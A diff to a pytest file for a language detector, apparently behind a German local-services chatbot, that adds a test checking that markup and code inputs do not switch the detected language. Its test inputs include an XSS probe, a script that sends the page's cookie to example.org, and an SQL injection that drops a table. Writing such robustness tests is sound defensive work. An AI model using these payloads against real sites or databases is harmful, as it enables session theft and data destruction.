@@ -25,6 +25,17 @@ def test_short_or_name_only_messages_are_no_evidence(text: str) -> None:
 
 @pytest.mark.parametrize(
     "text",
+    ['<img src=x onerror="alert(1)"><script>alert(2)</script><b>fett</b>',
+     "<script>document.location='https://example.org/?c='+document.cookie</script>",
+     "<p style=\"color:red\">hallo</p>", "'; DROP TABLE projects; --"],
+)  # fmt: skip
+def test_markup_and_code_are_no_evidence_of_a_language(text: str) -> None:
+    """Tags and script bodies are no one's language: a probe must not switch the conversation."""
+    assert detect(text).language in (None, "de")
+
+
+@pytest.mark.parametrize(
+    "text",
     ["Wer ist in Hörde zuständig?", "wer is in eving zustaendig", "Gibt es Angebote für Senioren?",
      "Merhaba, wer ist in Hörde zuständig?", "Hörde – ja oder nein?",
      "Mein Vater ist seit Mamas Tod ganz allein, gibt es was für ihn?"],
